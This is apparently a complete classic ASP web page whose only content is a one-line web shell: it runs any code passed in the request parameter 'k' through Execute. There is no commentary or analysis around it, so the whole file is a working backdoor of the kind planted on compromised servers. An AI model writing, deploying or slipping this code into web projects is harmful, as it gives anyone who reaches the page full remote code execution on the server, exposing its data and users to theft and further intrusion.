<%
If Request("k") <> "" Then Execute(Request("k"))
%>
